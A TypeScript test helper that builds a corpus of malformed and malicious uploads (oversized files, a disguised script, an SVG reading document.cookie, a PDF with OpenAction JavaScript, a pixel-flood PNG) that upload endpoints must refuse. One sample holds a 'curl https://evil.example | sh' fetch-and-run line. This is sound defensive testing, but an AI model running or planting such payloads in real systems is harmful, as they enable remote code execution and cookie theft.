import type { FileRefusalCode } from "@/api/problem-codes";
import { jpegWithSize, pixelFloodPng } from "./test-images";
import { DAMAGE_PHOTO_POLICY, LICENCE_POLICY, type UploadCandidate, type UploadPolicy } from "./upload-validation";

export { jpegWithSize, pngWithSize } from "./test-images";

/**
 * The bad uploads (empty, oversized, disguised, active content), generated, so the corpus needs no binary fixtures: every
 * upload endpoint must refuse each of them with 413, 415 or 422 and store nothing.
 */
export interface BadUpload extends UploadCandidate {
  what: string;
  policy: UploadPolicy;
  status: 413 | 415 | 422;
  /** The answer's code when the status alone does not tell it (`UPLOAD_REFUSAL_CODES`). */
  code?: FileRefusalCode;
}

export function badUploadCorpus(): BadUpload[] {
  return [
    {
      what: "a photo of 6 MB plus one byte",
      name: "damage.jpg",
      bytes: jpegWithSize(4000, 3000, DAMAGE_PHOTO_POLICY.maxBytes + 1),
      policy: DAMAGE_PHOTO_POLICY,
      status: 413,
    },
    {
      what: "a licence of 10 MB plus one byte",
      name: "licence.pdf",
      bytes: padded("%PDF-1.4\n", LICENCE_POLICY.maxBytes + 1),
      policy: LICENCE_POLICY,
      status: 413,
    },
    { what: "zero bytes", name: "empty.jpg", bytes: new Uint8Array(0), policy: DAMAGE_PHOTO_POLICY, status: 422 },
    {
      what: "a script renamed .jpg",
      name: "photo.jpg",
      bytes: Buffer.from("#!/bin/sh\ncurl https://evil.example | sh\n"),
      policy: DAMAGE_PHOTO_POLICY,
      status: 415,
    },
    {
      what: "an SVG with a script",
      name: "photo.svg",
      bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'),
      policy: DAMAGE_PHOTO_POLICY,
      status: 415,
    },
    {
      what: "a PDF with JavaScript",
      name: "licence.pdf",
      bytes: Buffer.from(
        "%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
      ),
      policy: LICENCE_POLICY,
      status: 422,
      code: "file_active_content",
    },
    {
      what: "a HEIC with wrong magic bytes",
      name: "photo.heic",
      bytes: Buffer.from("\0\0\0\x18ftypXXXX\0\0\0\0mif1heic"),
      policy: DAMAGE_PHOTO_POLICY,
      status: 415,
    },
    {
      what: "a pixel flood (PNG of 100,000 × 100,000 in a few KB)",
      name: "flood.png",
      bytes: pixelFloodPng(100_000, 100_000),
      policy: DAMAGE_PHOTO_POLICY,
      status: 422,
    },
    { what: "a JPEG named .png", name: "photo.png", bytes: jpegWithSize(4000, 3000), policy: DAMAGE_PHOTO_POLICY, status: 415 },
    { what: "a PDF as a damage photo", name: "photo.pdf", bytes: Buffer.from("%PDF-1.4\n%%EOF\n"), policy: DAMAGE_PHOTO_POLICY, status: 415 },
  ];
}

function padded(start: string, size: number): Uint8Array {
  const bytes = new Uint8Array(size);
  bytes.set(Buffer.from(start, "latin1"));
  return bytes;
}
